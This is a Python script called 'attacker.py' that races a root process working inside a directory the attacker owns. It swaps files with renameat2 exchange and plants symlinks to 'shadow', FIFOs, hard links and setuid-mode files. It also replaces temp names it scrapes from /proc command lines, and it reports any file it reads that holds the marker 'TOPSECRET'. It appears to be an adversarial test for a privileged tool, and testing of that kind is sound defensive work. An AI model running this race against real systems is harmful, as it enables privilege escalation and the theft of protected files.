"""Somebody who owns a directory in which uid 0 is told to change things, and wants to profit from it.

    attacker.py DIRECTORY OUTSIDE NAME SEED

In DIRECTORY, which is hers, NAME is what uid 0 looks at and changes. OUTSIDE is not hers. Until she is
killed she exchanges what is there for links to what is outside and for things that have no end, puts
other things under every name that comes up, also under those that she sees on command lines, and reads
all that she can. What she has seen of the secret she prints.
"""

import ctypes
import os
import random
import re
import stat
import sys

directory, outside, name, seed = sys.argv[1:]
draw = random.Random(int(seed))
os.chdir(directory)
libc = ctypes.CDLL(None, use_errno=True)
EXCHANGE = 2
baits = [f"{outside}/file", f"{outside}/shadow", f"{outside}/tool", f"{outside}/directory", "/proc/kmsg", "/dev/zero"]
store = ".store"
os.makedirs(store, exist_ok=True)
made = 0


def exchange(one, other):
    libc.renameat2(-100, os.fsencode(one), -100, os.fsencode(other), EXCHANGE)


def attempt(work, *arguments):
    try:
        return work(*arguments)
    except OSError:
        return None


def thing():
    """Something new to put in the place of something else, under a name of its own."""
    global made
    made += 1
    path = f"{store}/{made % 64}"
    remove(path)
    kind = draw.randrange(7)
    if kind <= 2:
        attempt(os.symlink, draw.choice(baits), path)
    elif kind == 3:
        attempt(os.mkfifo, path)
    elif kind == 4:
        attempt(os.mkdir, path, 0o777)
        attempt(os.symlink, draw.choice(baits), f"{path}/{name}")
    elif kind == 5:
        for own in ("file", "tool"):
            attempt(os.link, f"{outside}/{own}", path)
    elif attempt(write, path, draw.choice(["", "x\n", "k=1\n" * 9])):
        attempt(os.chmod, path, draw.choice([0o6777, 0o666, 0o755]))
    return path


def write(path, text):
    with open(path, "w") as file:
        return file.write(text) + 1


def remove(path):
    try:
        if stat.S_ISDIR(os.lstat(path).st_mode):
            for inner in os.listdir(path):
                remove(f"{path}/{inner}")
            os.rmdir(path)
        else:
            os.unlink(path)
    except OSError:
        pass


def put(path):
    """Something else is at the path now."""
    new = thing()
    if draw.randrange(2):
        exchange(new, path)
    else:
        attempt(os.rename, new, path)


def read(path):
    """What can be read there, without waiting for anything."""
    try:
        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
    except OSError:
        return
    try:
        if b"TOPSECRET" in os.read(file, 65536):
            print(f"read {path}", flush=True)
    except OSError:
        pass
    finally:
        os.close(file)


def announced():
    """Names for temporary things that others have on their command lines."""
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                yield from {os.fsdecode(one) for one in re.findall(rb"\.consfig-[0-9a-f]{24}", file.read())}
        except OSError:
            pass


turn = 0
while True:
    turn += 1
    # With pauses, since who is always disturbed gets nowhere, and then there is nothing to attack.
    quiet = turn % 400 < 150
    for entry in attempt(os.listdir, ".") or []:
        if entry == store:
            continue
        read(entry)
        if entry != name:
            read(f"{entry}/new")
            # As soon as something is being made, something else is where it is to go.
            put(name if draw.randrange(3) else entry)
    if not quiet and draw.randrange(4) == 0:
        put(name)
    if turn % 16 == 0:
        for entry in announced():
            attempt(os.rename, thing(), entry)
    if draw.randrange(30) == 0:
        remove(name)
